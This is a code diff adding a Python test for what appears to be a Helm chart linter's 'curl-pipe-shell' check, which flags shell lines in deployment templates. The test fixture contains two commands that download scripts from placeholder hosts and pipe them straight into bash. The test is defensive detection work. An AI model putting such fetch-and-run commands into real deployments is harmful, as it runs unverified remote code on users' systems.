@@ -104,6 +104,30 @@ def test_each_file_of_values_makes_its_own(here: Path, program: Program, engine:
     assert "in what `llm/Chart.yaml` makes" not in answer.out
 
 
+def test_what_a_script_does_is_found_at_its_line(
+    here: Path, program: Program, engine: None
+) -> None:
+    script = """\
+          command: [sh, -c]
+          args:
+            - |
+              set -e
+              {{- if .Values.tensorParallel }}
+              echo {{ .Values.tensorParallel }}
+              {{- end }}
+              curl http://a.example/{{ .Values.image.tag }}.sh | bash
+              curl http://b.example/i.sh | bash
+"""
+    template = TEMPLATE.replace(TEMPLATE[TEMPLATE.index("          args:") :], script)
+    chart(here, templates__deployment=template)
+    found = check(program, "curl-pipe-shell")
+    template = "llm/templates/deployment.yaml"
+    assert found == [Said(template, line, "curl-pipe-shell") for line in (20, 21)]
+    answer = program("check", "--no-cache", "--only", "curl-pipe-shell", ".")
+    assert answer.out.count("`.Values.image.tag` is set here") == 1
+    assert ".Values.tensorParallel" not in answer.out
+
+
 def test_a_value_of_a_block_is_found_by_its_key(here: Path, program: Program, engine: None) -> None:
     template = TEMPLATE.replace(
         "          args:",
